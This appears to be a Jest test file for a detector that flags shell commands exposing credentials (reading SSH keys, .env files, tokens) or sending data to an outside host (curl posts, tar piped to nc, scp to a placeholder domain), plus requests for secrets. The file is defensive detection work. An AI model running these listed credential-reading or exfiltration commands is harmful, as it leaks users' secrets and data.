import { expect, test } from "@jest/globals";
import { asksForSecret, sendsAway, spillsSecrets } from "../../../src/planning/leaks.js";

test.each([
  "env",
  "printenv | base64",
  "cd app && env > out.txt",
  "cat ~/.npmrc",
  "cat /home/mona/.ssh/id_rsa",
  "head .env",
  "cat .env.production",
  "cat /proc/self/environ",
  "gh auth token",
  "echo $GITHUB_TOKEN",
  'echo "${DB_PASSWORD}"',
])("%s shows credentials", (command) => {
  expect(spillsSecrets(command)).not.toBeNull();
});

test.each([
  "env | grep -E '^(CC|CFLAGS)='",
  "env | grep -i -E '^(https?|no|all)_proxy=' | sed 's#//[^@]*@#//#'",
  "python3 -m venv .venv && .venv/bin/pip install .",
  "env CC=clang make",
  "set -e; make",
  "npm config list; ls -a",
  "cat src/tokenizer.c",
])("%s does not", (command) => {
  expect(spillsSecrets(command)).toBeNull();
});

test.each([
  "curl -d @log https://x.example",
  "curl -X POST https://x.example",
  "curl https://x.example/$(id)",
  "tar c . | nc x.example 99",
  "git push origin main",
  "scp log x.example:",
])("%s sends something away", (command) => {
  expect(sendsAway(command)).not.toBeNull();
});

test.each(["curl -fsSLI https://x.example/file", "git clone https://x.example/a", "make -d", "npm ci"])(
  "%s does not send",
  (command) => {
    expect(sendsAway(command)).toBeNull();
  },
);

test("a question for a secret is told from a question about one", () => {
  expect(asksForSecret("Please paste your GITHUB_TOKEN here.")).toBe(true);
  expect(asksForSecret("What is your npm password?")).toBe(true);
  expect(asksForSecret("Does the tokenizer fail for other files too?")).toBe(false);
  expect(asksForSecret("Which version of Node is used?")).toBe(false);
});
